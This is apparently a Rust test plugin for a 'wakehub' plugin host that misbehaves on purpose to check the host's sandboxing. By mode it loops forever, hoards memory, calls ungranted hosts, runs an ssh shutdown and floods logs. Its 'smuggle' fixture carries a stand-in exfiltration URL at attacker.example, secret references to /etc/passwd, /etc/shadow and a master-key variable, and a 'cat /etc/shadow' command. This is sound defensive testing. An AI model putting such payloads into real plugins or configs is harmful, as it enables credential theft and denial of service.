//! Misbehaves as its node's `mode` says, in `status` and `start`: `loop` (forever), `alloc`
//! (without bound), `http` (to `target_url`… through a key the host does not treat as a
//! grant), `credential` (a bearer token from a key the node does not hold as a secret),
//! `panic`, `trap`, `log` (floods the log), `sleep` (sleeps past its deadline through the
//! host's clock), `std-sleep` (an hour through WASI's own clock); `ok` behaves.
//! The other capabilities: `ssh` (runs `shutdown -h now` as `ssh_user` with `ssh_password`),
//! `ssh-other-key` (asks for `root_password`, which the node does not hold), `wake` (a
//! magic packet to the node's `mac`), `probe` (its own `host`:`probe_port`), and
//! `probe-elsewhere` (a host it was not granted).
//! With `when = "start"`, `status` behaves (off, or on in mode `ok`) and only `start`
//! misbehaves.

use std::time::Duration;

use wakehub_plugin_sdk::*;

struct Hostile;

fn misbehave(node: &Node) -> Result<PowerState, ConnectorError> {
    let config = config(node);
    match config.str("mode").unwrap_or("ok") {
        "loop" => {
            let mut i: u64 = 0;
            loop {
                i = std::hint::black_box(i.wrapping_add(1));
            }
        }
        "alloc" => {
            let mut hoard: Vec<Vec<u8>> = Vec::new();
            loop {
                hoard.push(vec![1u8; 1 << 20]);
                std::hint::black_box(&hoard);
            }
        }
        "http" => {
            // `elsewhere` is not a `…url` key: the host grants nothing from it.
            let url = config.require_str("elsewhere")?.to_owned();
            http::send(&request(http::Method::Get, &url)).map(|_| PowerState::On)
        }
        "credential" => {
            let url = config.require_str("api_url")?.to_owned();
            let mut req = request(http::Method::Get, &url);
            req.auth = Some(http::Auth::Bearer("admin_token".into()));
            http::send(&req).map(|_| PowerState::On)
        }
        // The other capabilities, granted or not.
        "ssh" => {
            let user = config.require_str("ssh_user")?.to_owned();
            let out = ssh::exec(&user, "ssh_password", "shutdown -h now")?;
            log(log::Level::Info, &format!("ssh exit {:?}: {}", out.exit_code, out.output.trim()));
            Ok(if out.exit_code == Some(0) { PowerState::Off } else { PowerState::Error })
        }
        "ssh-other-key" => {
            let user = config.require_str("ssh_user")?.to_owned();
            ssh::exec(&user, "root_password", "id").map(|_| PowerState::On)
        }
        "wake" => wol::wake().map(|_| PowerState::Starting),
        "probe" => {
            let port = config.int("probe_port").unwrap_or(22) as u16;
            let host = config.require_str("host")?.to_owned();
            Ok(if tcp::probe(&host, port, 1000)? { PowerState::On } else { PowerState::Off })
        }
        "probe-elsewhere" => tcp::probe("127.0.0.2", 22, 1000).map(|_| PowerState::On),
        "panic" => panic!("the hostile plugin panics on purpose"),
        "trap" => std::process::abort(),
        "log" => {
            for i in 0..20_000 {
                log(log::Level::Info, &format!("flood {i} {}", "x".repeat(100)));
            }
            Ok(PowerState::On)
        }
        "sleep" => {
            clock::sleep_ms(3_600_000);
            Ok(PowerState::On)
        }
        // Through WASI's own clock (`wasi:clocks` + `wasi:io/poll`), not the host's.
        "std-sleep" => {
            std::thread::sleep(std::time::Duration::from_secs(3600));
            Ok(PowerState::On)
        }
        _ => Ok(PowerState::On),
    }
}

impl Plugin for Hostile {
    fn describe() -> PluginInfo {
        let gremlin = kind("gremlin", Duration::from_secs(300), Duration::from_secs(180));
        info("hostile", env!("CARGO_PKG_VERSION"), &[gremlin], r#"{"type":"object"}"#)
    }
    /// `mode = "validate-loop"` loops in `validate` (run by `check` and the API's node
    /// creation).
    fn validate(config: &Config) -> Result<(), Vec<ConfigProblem>> {
        if config.str("mode") == Some("validate-loop") {
            let mut i: u64 = 0;
            loop {
                i = std::hint::black_box(i.wrapping_add(1));
            }
        }
        Ok(())
    }
    fn status(node: &Node) -> Result<PowerState, ConnectorError> {
        let c = config(node);
        if c.str("when") == Some("start") {
            return Ok(if c.str("mode") == Some("ok") { PowerState::On } else { PowerState::Off });
        }
        misbehave(node)
    }
    fn start(node: &Node) -> Result<(), ConnectorError> {
        misbehave(node).map(|_| ())
    }
    fn stop(_node: &Node) -> Result<(), ConnectorError> {
        Ok(())
    }
    /// `mode = "smuggle"`: lists one guest whose table tries to carry secrets, references,
    /// grants and a command into the store (`$secret` objects, `allow_hosts`, URLs,
    /// `password`, `shutdown_command`). The host must keep none of them.
    fn discover(node: &Node) -> Result<Vec<Discovered>, ConnectorError> {
        if config(node).str("mode") != Some("smuggle") {
            return Err(error(ErrorCode::Unsupported, format!("{}: no discovery in this mode", node.name)));
        }
        let config = r#"{"mode": "ok", "when": "start", "allow_hosts": ["attacker.example"],
            "status_url": "http://attacker.example/steal", "password": "pw",
            "token": {"$secret": "file:/etc/passwd"}, "$secret": "env:WAKEHUB_MASTER_KEY",
            "shutdown_command": "cat /etc/shadow", "nested": {"$secret": "file:/etc/shadow", "ok": 1}}"#;
        Ok(vec![Discovered {
            key: "gremlin/smuggled".into(),
            name: "smuggled".into(),
            kind: "gremlin".into(),
            config: config.into(),
            status: PowerState::Off,
            details: "{}".into(),
        }])
    }
}

export_plugin!(Hostile);
